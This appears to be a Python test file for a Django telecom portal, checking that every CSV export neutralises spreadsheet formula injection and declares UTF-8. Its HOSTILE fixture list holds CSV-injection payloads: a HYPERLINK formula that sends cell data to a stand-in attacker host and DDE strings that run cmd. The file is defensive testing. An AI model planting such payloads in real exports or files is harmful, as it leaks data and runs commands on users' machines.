"""Every CSV the portal serves: no cell comes out as a live spreadsheet formula, and the file
says it is UTF-8 (issue 12 item 7; docs/security.md).

The exports are found by walking the URL conf (every view that answers text/csv), so a new
export that bypasses portal/csv_export.py is caught by `test_every_csv_export_is_covered`.
"""

import csv
import io

import pytest

from dids.models import DID
from e911.models import BulkJob, BulkRow, Location
from portal.csv_export import csv_line, inert
from porting.models import PortabilityJob, PortabilityRow
from tests.portal.url_walker import all_endpoints

# What VI (a reference, a caller-ID name) or a paste (a bulk row) could hold.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "Ünïcödé café ☎",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def test_a_cell_starting_a_formula_is_quoted_and_keeps_its_text():
    for value in HOSTILE:
        cell = inert(value)
        assert not cell.startswith(TRIGGERS)
        assert cell.endswith(value)
    assert inert("+15551234567") == "'+15551234567"  # the documented choice: numbers too
    assert inert("4352154006") == "4352154006"
    assert inert(None) == "" and inert(12) == "12"
    assert inert("a=b") == "a=b"  # only the first character matters
    assert csv_line(["=1", "x"]) == "'=1,x\r\n"


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


def _assert_inert(rows: list[list[str]], expected_values: list[str]) -> None:
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if cell.startswith(TRIGGERS)]
    assert live == [], f"cells a spreadsheet would run: {live}"
    for value in expected_values:  # kept, only made inert
        assert ("'" + value if value.startswith(TRIGGERS) else value) in cells


@pytest.fixture
def hostile_numbers(db):
    """Mirror rows holding what VI could send back: a reference and a name set at VI."""
    numbers = []
    for index, value in enumerate(HOSTILE):
        numbers.append(
            DID.objects.create(
                tn=f"43521540{index:02d}",
                ref_id=value[:100],
                cnam_name=value[:15],
                forward="+155512345",
                state="UT",
                rate_center="-OGDEN",
            )
        )
    return numbers


def test_numbers_export(viewer_client, hostile_numbers):
    rows = _cells(viewer_client.get("/numbers/export.csv"))
    assert rows[0][0] == "number"
    assert len(rows) == 1 + len(HOSTILE)
    _assert_inert(rows, HOSTILE + ["+155512345", "-OGDEN"])


def test_911_compliance_export(viewer_client, hostile_numbers):
    # The numbers have no 911 location: the "missing" list carries their CNAM names.
    rows = _cells(viewer_client.get("/e911/export.csv", {"problem": "missing"}))
    assert len(rows) == 1 + len(HOSTILE)
    _assert_inert(rows, [value[:15] for value in HOSTILE])


def test_911_compliance_export_of_locations(viewer_client, hostile_numbers):
    for number, value in zip(hostile_numbers, HOSTILE, strict=True):
        Location.objects.create(
            tn=number.tn,
            caller_name=value[:100],
            address1=value[:200],
            city="@Ogden",
            status_code="",
        )
    rows = _cells(viewer_client.get("/e911/export.csv", {"problem": "unprovisioned"}))
    assert len(rows) == 1 + len(HOSTILE)
    _assert_inert(rows, HOSTILE + ["@Ogden"])


def test_911_bulk_results_export(viewer_client, operator):
    job = BulkJob.objects.create(file_name="x.csv", created_by=operator)
    for line, value in enumerate(HOSTILE, start=2):
        BulkRow.objects.create(
            job=job,
            line=line,
            tn=value[:32],
            caller_name=value[:100],
            address1=value[:200],
            city=value[:100],
            verdict=BulkRow.Verdict.INVALID,
            message=value[:500],
        )
    rows = _cells(viewer_client.get(f"/e911/bulk/{job.pk}/results.csv"))
    assert len(rows) == 1 + len(HOSTILE)
    _assert_inert(rows, HOSTILE)


def test_portability_results_export(viewer_client, operator):
    job = PortabilityJob.objects.create(created_by=operator, status=PortabilityJob.Status.FINISHED)
    for position, value in enumerate(HOSTILE):
        PortabilityRow.objects.create(
            job=job,
            position=position,
            entry=value[:100],
            verdict=PortabilityRow.Verdict.INVALID,
            message=value,
        )
    rows = _cells(viewer_client.get(f"/porting/check/{job.pk}/results.csv"))
    assert len(rows) == 1 + len(HOSTILE)
    _assert_inert(rows, HOSTILE)


def test_customers_export(viewer_client, db):
    from dids.models import Client

    for index, value in enumerate(HOSTILE):
        Client.objects.create(vi_id=str(index + 1), name=value[:200], e911_groups=[value])
    rows = _cells(viewer_client.get("/customers/export.csv"))
    assert len(rows) == 1 + len(HOSTILE)
    _assert_inert(rows, HOSTILE)


def test_billing_export(viewer_client, hostile_numbers):
    from django.utils import timezone

    month = timezone.localtime().strftime("%Y-%m")
    rows = _cells(viewer_client.get("/customers/billing.csv", {"month": month}))
    assert len(rows) == 1 + len(HOSTILE)
    _assert_inert(rows, HOSTILE + ["+155512345"])


def test_compliance_check_export(viewer_client, hostile_numbers):
    # Unprovisioned locations fail "No provisioned 911 location"; the file carries their addresses.
    for number, value in zip(hostile_numbers, HOSTILE, strict=True):
        Location.objects.create(
            tn=number.tn,
            caller_name=value[:100],
            address1=value[:200],
            city="@Ogden",
            status_code="",
        )
    rows = _cells(viewer_client.get("/compliance/location_valid.csv"))
    assert len(rows) == 1 + len(HOSTILE)
    _assert_inert(rows, HOSTILE + ["@Ogden"])


COVERED = {
    "dids:export",
    "e911:export",
    "e911:bulk_results",
    "porting:check_results",
    "customers:export",
    "customers:billing_export",
    "compliance:export",
}


def test_every_csv_export_is_covered():
    """A URL named like a CSV file is an export: each one has a test above."""
    exports = {endpoint.name for endpoint in all_endpoints() if endpoint.path.endswith(".csv")}
    assert exports == COVERED


def test_no_view_writes_csv_by_itself():
    """The csv module's writer is used in portal/csv_export.py only (a grep, as a test)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    for package in ("portal", "dids", "e911", "messaging", "porting", "customers", "compliance"):
        for path in (root / package).rglob("*.py"):
            if "sandbox" in path.parts or path.name == "csv_export.py":
                continue
            text = path.read_text()
            if "csv.writer(" in text or "csv.DictWriter(" in text:
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
